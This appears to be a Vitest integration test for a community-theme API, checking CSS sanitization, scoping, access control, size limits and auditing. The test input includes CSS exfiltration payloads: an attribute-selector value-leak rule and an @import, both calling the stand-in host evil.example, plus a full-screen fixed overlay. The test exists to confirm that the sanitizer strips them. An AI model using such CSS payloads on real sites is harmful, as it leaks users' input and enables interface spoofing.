/**
 * Issue #16 item 8 on the real server: a community's custom CSS is sanitized by the worker (in
 * workerd, with the css-tree bundle the instance ships) before anyone receives it. The full
 * payload corpus is in cssSanitizer.test.ts; this checks the route: who may set and read it, that
 * what members receive is the sanitized, scoped text, and the bounds.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningServer } from '../helpers/server';
import { api, community, join, setup, type TestUser } from '../communities/fixture';

let server: RunningServer;
let owner: TestUser;
let u: Record<'member' | 'outsider', TestUser>;

beforeAll(async () => {
  ({ server, operator: owner, users: u } = await setup(['member', 'outsider'] as const));
});
afterAll(async () => {
  await server?.kill();
});

describe('community theme (issue #16 item 8)', () => {
  it('16.8: ADMINISTRATOR sets a theme; the server keeps the allowed styles, scoped, and drops exfiltration; members read only the sanitized text', async () => {
    const c = await community(server, owner);
    await join(server, owner, c.id, [u.member]);
    const css = `:root { --accent: #ff3366 }
.message { color: #123456; border-radius: 8px }
input[value^="a"] { background: url(https://evil.example/a) }
@import url(https://evil.example/x.css);
.banner { position: fixed; inset: 0 }
.logo { background-image: url(/api/images/abc123) }`;
    const set = await api(server, owner, 'PUT', `/api/communities/${c.id}/theme`, { css });
    expect(set.status, JSON.stringify(set.body)).toBe(200);
    const scope = `[data-community-theme="${c.id}"]`;
    expect(set.body.css).toContain(`${scope}{--accent:#ff3366}`);
    expect(set.body.css).toContain(`${scope} .message{color:#123456;border-radius:8px}`);
    expect(set.body.css).toContain('url(/api/images/abc123)');
    for (const gone of ['evil.example', '@import', 'value^=', 'fixed']) expect(set.body.css).not.toContain(gone);
    expect(set.body.removed.length).toBeGreaterThanOrEqual(3);

    const asMember = await api(server, u.member, 'GET', `/api/communities/${c.id}/theme`);
    expect(asMember.body).toEqual({ css: set.body.css });
    expect((await api(server, owner, 'GET', `/api/communities/${c.id}/theme`)).body).toEqual({ css: set.body.css, source: css });
    expect((await api(server, u.outsider, 'GET', `/api/communities/${c.id}/theme`)).status).toBe(404);
    expect((await api(server, u.member, 'PUT', `/api/communities/${c.id}/theme`, { css: '.x { color: red }' })).status).toBe(403);
    expect((await api(server, u.outsider, 'PUT', `/api/communities/${c.id}/theme`, { css: '.x { color: red }' })).status).toBe(404);
    expect((await api(server, null, 'PUT', `/api/communities/${c.id}/theme`, { css: '.x { color: red }' })).status).toBe(401);
    const big = await api(server, owner, 'PUT', `/api/communities/${c.id}/theme`, { css: `.x{color:red}${' '.repeat(17_000)}` });
    expect(big.body.error.code).toBe('validation_failed');
    // The stored theme is unchanged by the refused ones; an empty one removes it.
    expect((await api(server, u.member, 'GET', `/api/communities/${c.id}/theme`)).body.css).toBe(set.body.css);
    expect((await api(server, owner, 'PUT', `/api/communities/${c.id}/theme`, { css: '' })).body.css).toBeNull();
    expect((await api(server, u.member, 'GET', `/api/communities/${c.id}/theme`)).body).toEqual({ css: null });
    const audit = await api(server, owner, 'GET', '/api/admin/audit?event=community_theme_changed&limit=5');
    expect(audit.body.events.length).toBe(2);
  });
});
